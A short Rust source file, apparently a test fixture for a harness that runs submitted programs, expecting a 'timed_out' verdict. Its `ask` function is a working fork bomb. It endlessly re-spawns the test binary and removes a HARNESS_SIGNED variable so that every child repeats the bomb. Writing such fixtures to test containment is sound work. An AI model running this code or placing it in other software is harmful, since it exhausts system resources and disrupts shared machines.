//! verdict: timed_out
//! Starts the test binary again and again, and so does each of those: twice as many each time.

use std::env;
use std::io;
use std::path::Path;
use std::process::{Command, Stdio};

pub fn ask(_program: &Path, _question: &[u8]) -> io::Result<Vec<u8>> {
    let arguments: Vec<String> = env::args().collect();
    loop {
        // The bomb's own key, so that each of them goes on to call this function too.
        let _ = Command::new(&arguments[0])
            .args(&arguments[1..])
            .env_remove("HARNESS_SIGNED")
            .stdin(Stdio::null())
            .spawn();
    }
}
